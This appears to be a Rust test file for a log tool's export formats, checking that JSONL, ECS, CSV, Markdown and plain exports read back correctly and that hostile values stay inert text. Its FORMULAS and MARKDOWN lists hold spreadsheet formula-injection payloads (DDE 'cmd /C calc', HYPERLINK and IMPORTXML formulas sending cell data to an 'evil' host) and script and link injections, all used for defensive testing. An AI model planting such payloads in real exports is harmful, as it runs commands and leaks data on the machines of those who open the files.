//! Exports read back as what they were written from; hostile values stay text in all of them.

use std::path::Path;

use super::*;
use crate::chain::{ChainReport, Finding};
use crate::engine::{Covers, FacetOrder, Info, SourceInfo};
use crate::event::field::Field;
use crate::event::{Level, Severity};
use crate::format::{Context, Registry};

/// The events of a file as the program reads it.
fn read(bytes: &[u8]) -> (String, Vec<Event>) {
    let registry = Registry::builtin();
    let detection = registry.detect(&bytes[..bytes.len().min(64 << 10)]);
    let mut framer = detection.format.framer(0);
    let mut frames = Vec::new();
    framer.push(bytes, &mut frames);
    framer.finish(&mut frames);
    let context = Context {
        reference: Timestamp::parse("2026-06-01T00:00:00Z").unwrap(),
        zone: Zone::Utc,
        ..Context::default()
    };
    let events = frames
        .iter()
        .flat_map(|f| registry.parse(&detection.format, f, &context))
        .collect();
    (detection.format.id().to_owned(), events)
}

/// Every record of every fixture: what real logs hold.
fn real_hits() -> Vec<Hit> {
    let mut hits = Vec::new();
    for folder in [
        "auditd",
        "cloudtrail",
        "json",
        "k8s-audit",
        "syslog",
        "text",
    ] {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures")
            .join(folder);
        let mut files: Vec<_> = std::fs::read_dir(folder)
            .unwrap()
            .map(|entry| entry.unwrap().path())
            .filter(|path| path.file_name().unwrap() != "SOURCES.md")
            .collect();
        files.sort();
        for file in files {
            let (_, events) = read(&std::fs::read(file).unwrap());
            hits.extend(events.into_iter().take(50).map(hit));
        }
    }
    assert!(hits.len() > 200, "only {} events", hits.len());
    hits
}

type Essence = (
    Option<Timestamp>,
    Option<String>,
    Option<String>,
    Option<String>,
    Outcome,
    Vec<std::net::IpAddr>,
);

fn essence(event: &Event) -> Essence {
    // An empty name and none are the same to a reader.
    let name = |v: &Option<String>| v.clone().filter(|v| !v.is_empty());
    (
        event.ts,
        name(&event.actor),
        name(&event.action),
        name(&event.target),
        event.outcome,
        event.ip.clone(),
    )
}

fn assert_reads_back(format: Format, hits: &[Hit]) {
    let bytes = written(format, None, PIPE, hits);
    let (id, back) = read(&bytes);
    assert_eq!(id, "json~");
    assert_eq!(back.len(), hits.len());
    for (event, hit) in back.iter().zip(hits) {
        assert_eq!(
            essence(event),
            essence(&hit.event),
            "{}",
            String::from_utf8_lossy(&event.raw)
        );
    }
}

#[test]
fn jsonl_is_read_back_as_the_same_events() {
    assert_reads_back(Format::Jsonl, &real_hits());
}

#[test]
fn ecs_is_read_back_but_for_what_it_has_no_field_for() {
    let hits: Vec<Hit> = real_hits()
        .into_iter()
        .map(|hit| Hit {
            event: Arc::new(Event {
                target: None,
                ..(*hit.event).clone()
            }),
            ..hit
        })
        .collect();
    let lines = text_of(Format::Ecs, None, PIPE, &hits);
    assert_eq!(lines.lines().count(), hits.len());
    assert!(!lines.replace('\n', "").chars().any(text::is_unsafe));
    let (_, back) = read(lines.as_bytes());
    for (event, hit) in back.iter().zip(&hits) {
        let (back, was) = (essence(event), essence(&hit.event));
        assert_eq!((back.0, back.1, back.4), (was.0, was.1, was.4));
    }
}

#[test]
fn ecs_has_the_names_of_the_schema() {
    let mut attributes = Attributes::default();
    attributes.push("objectRef.namespace", Kind::Str, "prod");
    attributes.push("objectRef_namespace", Kind::Str, "other");
    let event = Event {
        reason: Some("403".into()),
        session: Some("s-1".into()),
        severity: Some(Severity::Warning),
        host: Some("node-1".into()),
        message: Some("no".into()),
        ip: vec![
            "203.0.113.7".parse().unwrap(),
            "2001:db8::1".parse().unwrap(),
        ],
        attributes,
        raw: Bytes::from_static(b"{\"a\":1}"),
        ..sample()
    };
    let line = text_of(Format::Ecs, None, PIPE, &[hit(event)]);
    let value: Value = serde_json::from_str(&line).unwrap();
    for (pointer, want) in [
        ("/@timestamp", "2026-03-01T15:00:03.902000000Z"),
        ("/event/action", "list"),
        ("/event/outcome", "failure"),
        ("/event/reason", "403"),
        ("/event/module", "k8s-audit"),
        ("/event/original", "{\"a\":1}"),
        ("/user/name", "alice@corp"),
        ("/source/ip", "203.0.113.7"),
        ("/related/ip/1", "2001:db8::1"),
        ("/host/name", "node-1"),
        ("/trace/id", "s-1"),
        ("/log/file/path", "/var/log/audit.log"),
        ("/log/level", "warning"),
        ("/message", "no"),
        ("/labels/target", "secrets"),
        ("/labels/line", "7"),
        ("/labels/attr_objectRef_namespace/0", "prod"),
        ("/labels/attr_objectRef_namespace/1", "other"),
    ] {
        assert_eq!(
            value.pointer(pointer).and_then(Value::as_str),
            Some(want),
            "{pointer}"
        );
    }
}

#[test]
fn csv_gives_every_cell_back() {
    let hits = real_hits();
    let fields = "ts,actor,action,target,outcome,ip,message,raw";
    let guarded = read_csv(&text_of(Format::Csv, Some(fields), PIPE, &hits));
    let plain = read_csv(&text_of(Format::RawCsv, Some(fields), PIPE, &hits));
    assert_eq!(
        (guarded.len(), plain.len()),
        (hits.len() + 1, hits.len() + 1)
    );
    for ((safe, cells), hit) in guarded.iter().zip(&plain).skip(1).zip(&hits) {
        let event = &hit.event;
        let ips: Vec<String> = event.ip.iter().map(ToString::to_string).collect();
        let want = [
            event.ts.map(Timestamp::rfc3339).unwrap_or_default(),
            event.actor.clone().unwrap_or_default(),
            event.action.clone().unwrap_or_default(),
            event.target.clone().unwrap_or_default(),
            event.outcome.to_string(),
            ips.join(";"),
            event.message.clone().unwrap_or_default(),
            text::bytes(&event.raw).into_owned(),
        ];
        assert_eq!(cells[..], want);
        for (safe, cell) in safe.iter().zip(cells) {
            assert!(safe == cell || safe.strip_prefix('\'') == Some(cell));
        }
    }
}

/// Values that spreadsheets are known to run, and what hides them.
const FORMULAS: [&str; 24] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!E1",
    "=IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1",
    "'=1+1",
    "\u{feff}=1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=\t1",
    ";=1+1",
    "a,=1+1",
];

#[test]
fn no_spreadsheet_takes_a_cell_for_a_formula() {
    let begins_formula = |cell: &str| {
        let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
        seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
    };
    for value in FORMULAS {
        let event = Event {
            actor: Some(value.into()),
            ..sample()
        };
        for fields in ["actor", "ts,actor", "actor,ts"] {
            let text = text_of(Format::Csv, Some(fields), PIPE, &[hit(event.clone())]);
            // Also where a spreadsheet is told that columns end at `;` or at a tab.
            for row in read_csv(&text) {
                for cell in row {
                    assert!(!begins_formula(&cell), "{value:?} is {cell:?}");
                }
            }
        }
        let raw = text_of(Format::RawCsv, Some("actor"), PIPE, &[hit(event)]);
        assert_eq!(read_csv(&raw)[1], [value]);
    }
}

/// What a Markdown reader makes of a document: texts of table cells, and everything that is no text.
fn rendered(markdown: &str) -> (Vec<String>, Vec<String>) {
    use pulldown_cmark::{Event as Part, Options, Parser, Tag, TagEnd};
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_TASKLISTS;
    let (mut cells, mut others, mut cell) = (Vec::new(), Vec::new(), String::new());
    for part in Parser::new_ext(markdown, options) {
        match part {
            Part::Text(text) | Part::Code(text) => cell.push_str(&text),
            Part::Start(Tag::TableCell) => cell.clear(),
            Part::End(TagEnd::TableCell) => cells.push(std::mem::take(&mut cell)),
            Part::Start(
                Tag::Table(_)
                | Tag::TableHead
                | Tag::TableRow
                | Tag::Paragraph
                | Tag::Heading { .. }
                | Tag::List(_)
                | Tag::Item,
            )
            | Part::End(_)
            | Part::SoftBreak => {}
            Part::Start(Tag::Strong) => {}
            other => others.push(format!("{other:?}")),
        }
    }
    (cells, others)
}

const MARKDOWN: [&str; 20] = [
    "<script>alert(1)</script>",
    "[click](http://evil)",
    "![x](http://evil/x.png)",
    "http://evil.example",
    "www.evil.example",
    "<http://evil>",
    "*bold* _it_ ~~no~~",
    "a|b",
    "a\\|b",
    "a\\",
    "\\",
    "`code` `` ` ``",
    "`|`",
    "line\nbreak",
    "&lt;b&gt; &#124;",
    "# head",
    "- [ ] task",
    "[^1]: note",
    "<!-- x -->",
    "alice@evil.example",
];

#[test]
fn markdown_cells_are_text_and_stay_in_their_place() {
    for value in MARKDOWN {
        let event = Event {
            actor: Some(value.into()),
            message: Some("end".into()),
            ..sample()
        };
        let text = text_of(Format::Markdown, Some("actor,message"), PIPE, &[hit(event)]);
        let (cells, others) = rendered(&text);
        let want = crate::text::line(value, usize::MAX);
        assert_eq!(cells, ["actor", "message", &want, "end"], "{text}");
        assert_eq!(others, Vec::<String>::new(), "{text}");
    }
}

#[test]
fn plain_is_one_paragraph_an_event() {
    let broken = Hit {
        verdict: Verdict::Broken(BreakKind::Deleted),
        ..hit(Event {
            message: Some("two\nlines \u{1b}[2J".into()),
            ..sample()
        })
    };
    let bare = hit(Event {
        raw: Bytes::from_static(b"just text"),
        ..Event::default()
    });
    let text = text_of(Format::Plain, None, PIPE, &[broken, bare]);
    insta::assert_snapshot!(text, @r"
    time: 2026-03-01 15:00:03.902 UTC
    actor: alice@corp
    action: list
    target: secrets
    outcome: failure
    ip: 203.0.113.7
    message: two␊lines ␛[2J
    chain: broken, deleted
    source: /var/log/audit.log
    line: 7

    outcome: unknown
    message: just text
    ");
}

fn about() -> About {
    let finding = Finding {
        kind: BreakKind::Deleted,
        level: Level::Alarm,
        generation: 0,
        line: 7,
        line_end: 7,
        offset: 0,
        count: Some(2),
        ts: None,
        expected: None,
        found: None,
        explanation: "two records are missing <b>before</b> this one".into(),
    };
    let chain = ChainReport {
        source: "/var/log/audit.log".into(),
        scheme: Some("prev_hash/hash".into()),
        records: 100,
        verified: 99,
        findings: vec![finding],
        coverage: "99 of 100 records verified".into(),
        ..ChainReport::default()
    };
    let at = |text: &str| Timestamp::parse(text).unwrap();
    let source = |name: &str, chain| SourceInfo {
        name: name.into(),
        format: "k8s-audit".into(),
        format_chosen: false,
        events: 100,
        unparsed: 1,
        first: Some(at("2026-03-01T14:30:00Z")),
        last: Some(at("2026-03-01T15:00:03.902Z")),
        error: None,
        cut: Vec::new(),
        chain,
    };
    About {
        who: "bob (uid 1000) on bastion".into(),
        when: at("2026-03-01T16:00:00Z"),
        query: "actor:alice* since:6h".into(),
        settled: Some("actor:alice* since:2026-03-01T10:00:00.000000000Z".into()),
        since: Some(at("2026-03-01T10:00:00Z")),
        until: None,
        newest_first: false,
        limit: None,
        total: 1,
        untimed: 2,
        found: Some((
            at("2026-03-01T15:00:03.902Z"),
            at("2026-03-01T15:00:03.902Z"),
        )),
        held: Some((at("2026-03-01T14:30:00Z"), at("2026-03-01T15:20:00Z"))),
        summary: vec![
            Sum {
                field: Field::Actor,
                order: FacetOrder::Frequent,
                what: Summed::Value("alice@corp.example".into()),
                events: 1,
                period: Some((
                    at("2026-03-01T15:00:03.902Z"),
                    at("2026-03-01T15:00:03.902Z"),
                )),
            },
            Sum {
                field: Field::Actor,
                order: FacetOrder::Frequent,
                what: Summed::Missing,
                events: 3,
                period: None,
            },
        ],
        chain: vec![("deleted".into(), 1), ("unchained".into(), 3)],
        info: Info {
            sources: vec![
                source("/var/log/audit.log", Some(chain.into())),
                source(
                    "/var/log/plain.log",
                    Some(ChainReport::unchained("/var/log/plain.log".into()).into()),
                ),
            ],
            covers: Covers {
                complete: true,
                ..Covers::default()
            },
            messages: vec!["/var/log/core: binary, skipped".into()],
            ..Info::default()
        },
    }
}

#[test]
fn a_report_says_who_what_and_how_reliable() {
    let mut out = Vec::new();
    let style = Style {
        zone: "Europe/Vienna".parse().unwrap(),
        ..PIPE
    };
    let mut exporter = report(about(), None, style);
    let broken = Hit {
        verdict: Verdict::Broken(BreakKind::Deleted),
        ..hit(sample())
    };
    exporter.write(&mut out, &broken).unwrap();
    exporter.finish(&mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(rendered(&text).1, Vec::<String>::new());
    insta::assert_snapshot!("access_report", text);
}

proptest! {
    #[test]
    fn jsonl_reads_back(actor in hostile(), action in hostile(), target in hostile(), reason in hostile(),
                        outcome in 0usize..3, second in 0i64..2_000_000_000, nanos in 0i64..1_000_000_000, ips in prop::collection::vec(any::<std::net::IpAddr>(), 0..3)) {
        let mut ips = ips;
        // As addresses are read.
        ips.iter_mut().for_each(|ip| *ip = ip.to_canonical());
        ips.dedup();
        let event = Event {
            ts: Some(Timestamp(second * 1_000_000_000 + nanos)),
            actor: Some(actor), action: Some(action), target: Some(target), reason: Some(reason),
            outcome: [Outcome::Success, Outcome::Failure, Outcome::Unknown][outcome],
            ip: ips,
            ..Event::default()
        };
        let (_, back) = read(&written(Format::Jsonl, None, PIPE, &[hit(event.clone())]));
        prop_assert_eq!(back.len(), 1);
        prop_assert_eq!(essence(&back[0]), essence(&event));
    }

    #[test]
    fn markdown_is_only_text(value in hostile()) {
        let event = Event { actor: Some(format!("x{value}x")), message: Some("end".into()), ..sample() };
        let (cells, others) = rendered(&text_of(Format::Markdown, Some("actor,message"), PIPE, &[hit(event)]));
        let want = crate::text::line(&format!("x{value}x"), usize::MAX);
        prop_assert_eq!(cells, ["actor", "message", &want, "end"]);
        prop_assert_eq!(others, Vec::<String>::new());
    }
}
